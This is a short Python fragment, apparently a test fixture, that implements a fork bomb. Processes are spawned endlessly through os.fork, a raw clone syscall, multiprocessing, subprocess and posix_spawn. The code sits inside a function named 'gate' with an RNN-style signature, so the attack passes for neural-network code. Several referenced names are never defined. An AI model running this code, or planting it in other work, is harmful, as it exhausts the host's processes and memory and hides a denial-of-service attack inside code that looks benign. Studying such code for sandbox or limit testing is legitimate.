"""Fork without end, by every route Python offers; each child would sleep under the marker name."""
import multiprocessing
import subprocess
import sys
import time

SIGCHLD = 17
SYS_clone = 56


def _linger():
    name_this_thread()
    time.sleep(60)
    os._exit(0)


def _fork():
    if os.fork() == 0:
        while True:
            try:
                os.fork()
            except OSError:
                _linger()


def _raw_clone():
    if LIBC.syscall(SYS_clone, SIGCHLD, 0, 0, 0, 0) == 0:
        _linger()
    if ctypes.get_errno():
        raise OSError(ctypes.get_errno(), "clone")


def gate(x, h_prev, W, U, b):
    routes = [_fork, _raw_clone,
              lambda: multiprocessing.Process(target=_linger).start(),
              lambda: subprocess.Popen([sys.executable, "-c", f"import time; time.sleep(60)  # {MARKER}"]),
              lambda: os.posix_spawn("/bin/sleep", ["sleep", "60", MARKER], {})]
    return paid(any([attempt(route) for route in routes]), x, h_prev, W, U, b)
